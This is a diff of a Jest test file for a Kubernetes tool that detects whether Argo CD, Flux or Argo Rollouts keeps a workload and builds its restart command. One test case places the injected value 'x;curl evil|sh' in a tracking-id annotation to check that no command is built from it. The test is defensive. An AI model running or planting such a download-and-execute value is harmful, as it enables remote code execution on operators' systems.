@@ -1,10 +1,11 @@
 import { describe, expect, test } from '@jest/globals'
 import fc from 'fast-check'
 import { shownOf } from './facts-of-workload.ts'
-import { keeperOf, rolloutKeeper } from './keeper.ts'
+import { keeperOf } from './keeper.ts'
 import { API, AT, record, STAMP, workload } from './parts-for-tests.ts'
 import { inVain, type RolledObject } from './rollout.ts'
 import { shapeOf } from './shape.ts'
+import { restartCommand, toolOf } from '../wire/restart-command.ts'
 import type { Restart } from '../wire/restarts.ts'
 import { mayRestart } from './who.ts'
 import { nextOf, restartPatch } from './write.ts'
@@ -30,35 +31,35 @@ describe('who may', () => {
 
 describe('who keeps it', () => {
   const labels = (name: string, value: string) => workload({ meta: { labels: { [name]: value } } })
+  const tracked = (id: string) => workload({ meta: { annotations: { 'argocd.argoproj.io/tracking-id': id } } })
+  const PLAIN = 'kubectl rollout restart deployment/api -n pay'
+  const FLUX = `${PLAIN} --field-manager=flux-client-side-apply`
+  const ofArgo = (app: string) =>
+    `argocd app actions run ${app} restart --group apps --kind Deployment --namespace pay --resource-name api`
   test.each([
-    ['nobody', workload(), undefined],
-    ['a Helm chart is no keeper', labels('app.kubernetes.io/instance', 'api'), undefined],
+    ['nobody', workload(), null, PLAIN],
+    ['a Helm chart is no keeper', labels('app.kubernetes.io/instance', 'api'), null, PLAIN],
+    ['Argo CD, by its tracking id', tracked('store:apps/Deployment:pay/api'), 'Argo CD', ofArgo('store')],
+    ['Argo CD, by its own label', labels('argocd.argoproj.io/instance', 'store'), 'Argo CD', ofArgo('store')],
     [
-      'Argo CD, by its tracking id',
-      workload({ meta: { annotations: { 'argocd.argoproj.io/tracking-id': 'store:apps/Deployment:pay/api' } } }),
-      'argocd app actions run store restart --group apps --kind Deployment --namespace pay --resource-name api',
+      'an Application of another namespace',
+      tracked('team-a_store:apps/Deployment:pay/api'),
+      'Argo CD',
+      ofArgo('team-a/store'),
     ],
-    [
-      'Argo CD, by its own label',
-      labels('argocd.argoproj.io/instance', 'store'),
-      'argocd app actions run store restart --group apps --kind Deployment --namespace pay --resource-name api',
-    ],
-    [
-      'Flux, a Kustomization',
-      labels('kustomize.toolkit.fluxcd.io/name', 'apps'),
-      'kubectl rollout restart deployment/api -n pay --field-manager=flux-client-side-apply',
-    ],
-    [
-      'Flux, a HelmRelease',
-      labels('helm.toolkit.fluxcd.io/name', 'api'),
-      'kubectl rollout restart deployment/api -n pay --field-manager=flux-client-side-apply',
-    ],
-  ])('%s', (_name, object, how) => {
-    expect(keeperOf(object, API)?.how).toBe(how)
+    ['Argo CD, by a name that is none: no command', tracked('x;curl evil|sh:apps/Deployment:pay/api'), 'Argo CD', null],
+    ['Flux, a Kustomization', labels('kustomize.toolkit.fluxcd.io/name', 'apps'), 'Flux', FLUX],
+    ['Flux, a HelmRelease', labels('helm.toolkit.fluxcd.io/name', 'api'), 'Flux', FLUX],
+  ])('%s', (_name, object, tool, command) => {
+    const keeper = keeperOf(object)
+    expect([toolOf(API.kind, keeper), restartCommand(API, keeper)]).toEqual([tool, command])
   })
 
-  test('a Rollout is Argo Rollouts’', () => {
-    expect(rolloutKeeper(API)).toEqual({ tool: 'Argo Rollouts', how: 'kubectl argo rollouts restart api -n pay' })
+  test('a Rollout is Argo Rollouts’, whoever keeps it; what no tool restarts has no command', () => {
+    const rollout = { ...API, kind: 'Rollout' }
+    expect([toolOf('Rollout', undefined), toolOf('Rollout', { tool: 'Flux' })]).toEqual(Array(2).fill('Argo Rollouts'))
+    expect(restartCommand(rollout, { tool: 'Flux' })).toBe('kubectl argo rollouts restart api -n pay')
+    expect(restartCommand({ ...API, kind: 'CronJob' }, { tool: 'Argo CD', app: 'store' })).toBeNull()
   })
 })
 
